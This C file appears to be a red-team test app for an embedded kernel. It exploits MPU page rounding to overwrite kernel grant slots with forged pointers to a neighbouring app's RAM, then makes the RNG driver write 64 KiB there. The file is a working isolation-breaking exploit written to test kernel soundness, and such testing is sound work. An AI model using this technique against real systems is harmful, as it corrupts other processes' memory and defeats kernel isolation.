/* redteam_grant: attack the kernel's grant storage with stores, as issue 9
 * describes, then ask the RNG to fill "its" buffer.
 *
 * Spec §3.5: allow slots are kernel-owned; spec §5.6: the grant region lies
 * between the kernel break and the top of RAM, where the MPU lets no app
 * store. The emulated MPU rounds the app's view up to a page, so after a brk
 * to the kernel break the app can store into [kernel break, page end). The
 * app looks there for anything shaped like its own RW-allow slot {buffer,
 * length}, then overwrites every word pair in reach with {victim RAM, 64 KiB},
 * and issues RNG command 1 for 64 KiB. On a sound kernel the slots are not
 * there, and the RNG fills only the app's own 16-byte buffer: the victim
 * (redteam_victim, placed right after it) keeps its canary. Prints:
 *
 *   redteam_grant: slots found N
 *   redteam_grant: rng done, own buffer filled|untouched
 */
#include <stdint.h>
#include <stdio.h>

#include <libtock/tock.h>

#include "../common/self.h"

#define RNG_DRIVER 0x40001
/* The victim runs right after this app: its data, above its stack. */
#define VICTIM_DATA (next_app_ram() + DEFAULT_APP_DATA_OFFSET)
#define FORGED_LEN  65536ul
#define PAGE        4096ul

static uint8_t buffer[16];

int main(void)
{
    /* Console first, RNG last: the RNG grant is the lowest, right at the
     * kernel break, where a rounded-up page would expose it. */
    printf("redteam_grant: start\n");
    fflush(stdout);
    if (!subscribe(RNG_DRIVER, 0, NULL, NULL).success ||
        !allow_readwrite(RNG_DRIVER, 0, buffer, sizeof buffer).success) {
        printf("redteam_grant: RNG setup failed\n");
        return 1;
    }
    uintptr_t kernel_break = (uintptr_t)tock_app_grant_begins_at();
    if (memop(0, kernel_break).status != TOCK_STATUSCODE_SUCCESS) {
        printf("redteam_grant: brk to the kernel break refused\n");
        return 1;
    }
    volatile uint64_t *word = (volatile uint64_t *)kernel_break;
    volatile uint64_t *end = (volatile uint64_t *)((kernel_break + PAGE - 1) & ~(PAGE - 1));
    unsigned found = 0;
    for (volatile uint64_t *w = word; w + 1 < end; w++)
        if (w[0] == (uintptr_t)buffer && w[1] == sizeof buffer)
            found++;
    printf("redteam_grant: slots found %u\n", found);
    fflush(stdout);
    for (volatile uint64_t *w = word; w + 1 < end; w += 2) {
        w[0] = VICTIM_DATA;
        w[1] = FORGED_LEN;
    }

    syscall_return_t r = command(RNG_DRIVER, 1, (int)FORGED_LEN, 0);
    if (r.type != TOCK_SYSCALL_SUCCESS) {
        printf("redteam_grant: rng refused\n");
        return 0;
    }
    yield_wait_for(RNG_DRIVER, 0);
    unsigned nonzero = 0;
    for (unsigned i = 0; i < sizeof buffer; i++)
        nonzero += buffer[i] != 0;
    printf("redteam_grant: rng done, own buffer %s\n", nonzero > 0 ? "filled" : "untouched");
    return 0;
}
